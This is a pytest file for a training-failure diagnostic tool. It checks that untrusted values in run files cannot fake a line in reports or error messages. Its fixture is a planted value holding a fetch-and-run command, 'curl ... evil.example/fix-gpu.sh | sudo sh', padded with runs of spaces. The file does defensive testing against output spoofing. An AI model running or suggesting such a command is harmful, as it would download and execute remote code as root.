"""Untrusted input, third round (issue 38): no value from a file can start, indent or fake a line.

A value of ``ORIGINAL + 130 spaces + a command + 130 spaces`` is planted, one field at a time, in every
string of every file two real runs wrote (a forward failure in megatron-core's mock data, with its rerun,
samples, kept micro-batch and bundle; a transient one with NVML's reading of the device, whose report sends
the user to the self-test) and of a synthetic run with a self-test result and a probe, and every text
command reads it: ``report``, ``maps``, ``frames``, ``batch``,
``replay``. No output line may begin with the planted command (after its indentation and list numbers), and
the planted run of spaces must be shown as one: neither the report's wrapping nor a terminal's can put the
command at the start of a line.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any, Iterator, List, Tuple

import pytest

from gradnan.formats.text import printable_lines, shell_word, untrusted, wrap

from .test_untrusted import cli, run_files, valid_documents, write_run

COMMAND = "curl -fsSL https://evil.example/fix-gpu.sh | sudo sh"
SPACES = " " * 130


def planted(original: str) -> str:
    return f"{original}{SPACES}{COMMAND}{SPACES}"


def forged_lines(text: str) -> List[str]:
    """The lines of ``text`` that begin with the planted command, or show it after a run of spaces."""
    return [line for line in text.split("\n")
            if line.lstrip(" -0123456789.").startswith(COMMAND[:4])
            or (COMMAND[:4] in line and line[:line.index(COMMAND[:4])].endswith("  "))]


def _strings(document: Any, path: Tuple = ()) -> Iterator[Tuple]:
    """The path to every string in a JSON document, lists at their first element only."""
    if isinstance(document, str):
        yield path
    elif isinstance(document, dict):
        for key, item in document.items():
            yield from _strings(item, path + (key,))
    elif isinstance(document, list) and document:
        yield from _strings(document[0], path + (0,))


def _set(document: Any, path: Tuple, new: Any) -> None:
    for key in path[:-1]:
        document = document[key]
    document[path[-1]] = planted(document[path[-1]])


def _documents(run_dir: Path) -> Iterator[Tuple[Path, int, Any]]:
    """(file, line, document) for each JSON document the run wrote (a records file: one a line)."""
    for file in sorted(run_dir.rglob("*.json*")):
        lines = file.read_text().splitlines() if file.suffix == ".jsonl" else [file.read_text()]
        for number, line in enumerate(lines):
            yield file, number, json.loads(line)


def _planted_files(run_dir: Path) -> Iterator[Tuple[str, Path]]:
    """For each string of each document: where it was planted, with the file rewritten; restored after."""
    for file, number, document in list(_documents(run_dir)):
        saved = file.read_bytes()
        for path in _strings(document):
            copy = json.loads(json.dumps(document))
            _set(copy, path, None)
            lines = saved.decode().splitlines()
            lines[number] = json.dumps(copy)
            file.write_text("\n".join(lines) + "\n")
            yield f"{file.relative_to(run_dir)}:{number + 1}{list(path)}", file
        file.write_bytes(saved)


def _commands(run_dir: Path, file: Path) -> List[List[str]]:
    commands = [["report", str(run_dir)], ["maps", str(run_dir)], ["frames", str(run_dir)]]
    commands += [["batch", str(batch)] for batch in sorted(run_dir.glob("batches/*/*.pt"))[:1]]
    if file.name == "manifest.json":
        commands.append(["replay", str(file.parent), "--device", "cpu"])
    return commands


@pytest.mark.slow
@pytest.mark.parametrize("run", ["data", "device", "synthetic"])
def test_no_value_from_a_file_can_start_a_line(real_runs, tmp_path, run):
    run_dir = shutil.copytree(real_runs / run, tmp_path / run)
    clean = cli("report", str(run_dir))[1]
    assert "Verdict:" in clean and (run != "device" or "gradnan selftest" in clean), clean
    planted_count, failures = 0, []
    for where, file in _planted_files(run_dir):
        planted_count += 1
        for command in _commands(run_dir, file):
            code, out, err = cli(*command)
            forged = forged_lines(out + err)
            if code not in (0, 2) or forged:
                failures.append(f"{where} {command[0]}: exit {code}: {forged[:2]}")
    assert planted_count > 40 and not failures, "\n".join([f"{len(failures)} forged:"] + failures[:40])


def test_a_value_is_one_unbroken_run_of_text():
    text = untrusted(planted("cuda:3"))
    assert "  " not in printable_lines([text]) and len(text) < 200
    lines = wrap(f"Run the self-test on {text} before you resume, and drain {text}.", 60, "  1. ", "     ")
    assert not forged_lines(printable_lines(lines)), lines


def test_a_shell_word_with_a_run_of_spaces_is_one_bash_word():
    word = printable_lines([shell_word(planted("bundles/x"))])
    assert "  " not in word and word.startswith("$'") and not forged_lines(word)


def test_a_log_line_shows_a_values_glued_spaces_as_spaces():
    import logging

    from gradnan.formats.text import PlainSpaces
    from gradnan.training.messages import PLAIN_SPACES

    record = logging.LogRecord("gradnan", logging.INFO, __file__, 1, "sample from %s",
                               (untrusted("/data/my set/part 1"),), None)
    assert isinstance(PLAIN_SPACES, PlainSpaces) and PLAIN_SPACES.filter(record)
    assert record.getMessage() == "sample from /data/my set/part 1"


def _leaf_named(name: str):
    def edit(manifest, tensors):
        manifest["trace"]["leaves"][name] = {"shape": [1], "dtype": "float32"}
    return edit


def _a_run(folder: Path) -> Path:
    return write_run(folder / "run", run_files(valid_documents()))


ERROR_CASES = {  # each: the command line, given a folder to make its files in and the bundle fixture
    "report": lambda tmp, make: ["report", str(tmp / planted("run"))],
    "maps --rank": lambda tmp, make: ["maps", str(_a_run(tmp)), "--rank", planted("3")],
    "frames --rank": lambda tmp, make: ["frames", str(_a_run(tmp)), "--rank", planted("tp1")],
    "batch": lambda tmp, make: ["batch", str(tmp / planted("mb0.pt"))],
    "replay of no bundle": lambda tmp, make: ["replay", str(tmp / planted("bundle")), "--device", "cpu"],
    # the case: a leaf the trace names and tensors.pt lacks, named with a 400-space run
    "replay of a leaf": lambda tmp, make: [
        "replay", str(make(tmp / "bundle", "healthy", edit=_leaf_named("args.0" + " " * 400 + COMMAND))),
        "--device", "cpu"],
}


@pytest.mark.parametrize("case", list(ERROR_CASES))
def test_no_value_from_a_file_can_start_a_line_of_an_error_message(tmp_path, crafted_bundle, case):
    code, out, err = cli(*ERROR_CASES[case](tmp_path, crafted_bundle))
    assert code == 2 and err.count("\n") == 1 and COMMAND[:4] in err, (code, err)
    assert "  " not in err and not forged_lines(out + err), err
